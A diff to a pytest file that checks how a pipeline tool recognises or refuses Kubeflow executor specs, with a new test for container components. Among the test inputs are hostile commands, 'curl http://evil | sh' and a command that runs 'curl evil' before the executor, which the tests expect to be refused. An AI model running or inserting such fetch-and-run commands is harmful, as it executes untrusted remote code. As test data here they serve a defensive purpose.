@@ -6,7 +6,7 @@ from pathlib import Path
 import pytest
 import yaml
 
-from zeroflow.functions.step.command import recognise
+from zeroflow.functions.step.command import ContainerComponent, recognise
 from zeroflow.functions.step.environments import satisfied
 from zeroflow.functions.step.errors import Unsupported
 
@@ -71,8 +71,7 @@ def test_what_the_sdk_compiles_is_read(given, expected):
 @pytest.mark.parametrize(
     ("given", "part"),
     [
-        pytest.param({"image": "alpine", "command": ["echo"], "args": ["x"]}, "(image alpine: echo x)", id="container"),
-        pytest.param({"image": "x"}, "container component", id="empty"),
+        pytest.param({"image": "me/x", "args": ["y"]}, "image me/x", id="the-images-own-command"),
         pytest.param(
             {"image": "own", "command": ["python3", "-m", "kfp.dsl.executor_main"], "args": ARGS},
             "containerized Python component (image own)",
@@ -83,7 +82,11 @@ def test_what_the_sdk_compiles_is_read(given, expected):
         pytest.param(executor(f"{PIP} 'a' '--no-deps' && {KFP}"), "'--no-deps'", id="no-deps-of-the-users"),
         pytest.param(executor("curl http://evil | sh"), "not one that the KFP SDK writes", id="other-script"),
         pytest.param(executor(f"{PIP} --target=/ 'a' && {KFP}"), "--target=/", id="pip-option"),
-        pytest.param({**executor(), "command": ["sh", "-ec", "echo $0", "X"]}, "container component", id="other"),
+        pytest.param(
+            {**executor(), "command": ["sh", "-c", "curl evil; python3 -m kfp.dsl.executor_main"]},
+            "unknown form",
+            id="other-form",
+        ),
         pytest.param({"command": "sh"}, "executor.command", id="no-list"),
     ],
 )  # fmt: skip
@@ -92,8 +95,13 @@ def test_anything_else_is_refused_with_what_it_is(given, part):
         recognise(given)
 
 
+def test_any_other_command_is_a_container_component():
+    given = {"image": "alpine", "command": ["sh", "-ec", "echo $0"], "args": ["{{$.inputs.parameters['x']}}"]}
+    assert recognise(given) == ContainerComponent((*given["command"], *given["args"]), "alpine")
+
+
 def test_every_official_pipeline_is_recognised_or_refused_by_kind(contracts: Path):
-    recognised = refused = 0
+    recognised = containers = refused = 0
     for path in sorted((contracts / "kfp" / "pipelines").rglob("*.yaml")):
         for document in yaml.safe_load_all(path.read_text()):
             for spec in ((document or {}).get("deploymentSpec") or {}).get("executors", {}).values():
@@ -104,12 +112,16 @@ def test_every_official_pipeline_is_recognised_or_refused_by_kind(contracts: Pat
                 if python:
                     assert recognise(container).source.strip().startswith(("import", "\nimport"))
                     recognised += 1
+                elif container.get("command") and "kfp.dsl.executor_main" not in container["command"]:
+                    assert isinstance(recognise(container), ContainerComponent)
+                    containers += 1
                 else:
                     with pytest.raises(Unsupported):
                         recognise(container)
                     refused += 1
     assert recognised > 200
-    assert refused > 20
+    assert containers > 20
+    assert refused > 2
 
 
 @pytest.mark.parametrize(
